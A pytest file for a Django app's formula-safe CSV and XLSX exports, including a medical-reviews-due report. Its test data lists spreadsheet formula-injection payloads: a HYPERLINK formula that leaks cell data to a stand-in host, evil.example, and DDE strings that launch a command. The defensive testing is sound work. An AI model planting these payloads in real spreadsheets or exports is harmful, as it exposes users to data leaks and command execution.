"""Formula-safe spreadsheet exports: a cell a spreadsheet would run as a formula is written as
text, in CSV and XLSX, and the CSV escape undoes exactly.

The "Medical reviews due" report is downloaded here as one real user of the mixin; the study
library's and the search terms' exports are tested in their apps."""

import csv
import io

from django.urls import reverse

import openpyxl
import pytest

from home.exports import escape_formula, unescape_formula

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_would_be_formula_gets_a_leading_apostrophe(value):
    assert escape_formula(value) == f"'{value}"


@pytest.mark.parametrize("value", ["Ketamine for depression", "", "10.1000/x", "'quoted'", "a=b", 2018, None])
def test_other_cells_are_written_as_they_are(value):
    assert escape_formula(value) == value


@pytest.mark.parametrize("value", HOSTILE + ["'=already", "''=twice", "'plain", "plain", "'"])
def test_unescaping_gives_back_exactly_what_was_exported(value):
    assert unescape_formula(escape_formula(value)) == value


def download(client, url, export_format):
    response = client.get(url, {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_cells(data):
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(data):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


HYPERLINK = '=HYPERLINK("http://evil.example/","Click")'


@pytest.fixture
def hostile_page(make_condition):
    # Never reviewed, so the report lists it.
    return make_condition(title=HYPERLINK, slug="hostile")


def test_reviews_due_csv_escapes_a_formula(editor_client, hostile_page):
    cells = csv_cells(download(editor_client, reverse("conditions_reviews_due"), "csv"))

    assert f"'{HYPERLINK}" in cells
    assert HYPERLINK not in cells


def test_reviews_due_xlsx_keeps_a_formula_as_quoted_text(editor_client, hostile_page):
    [cell] = [
        cell
        for cell in xlsx_cells(download(editor_client, reverse("conditions_reviews_due"), "xlsx"))
        if cell.value == HYPERLINK
    ]

    assert cell.data_type == "s"
    assert cell.quotePrefix
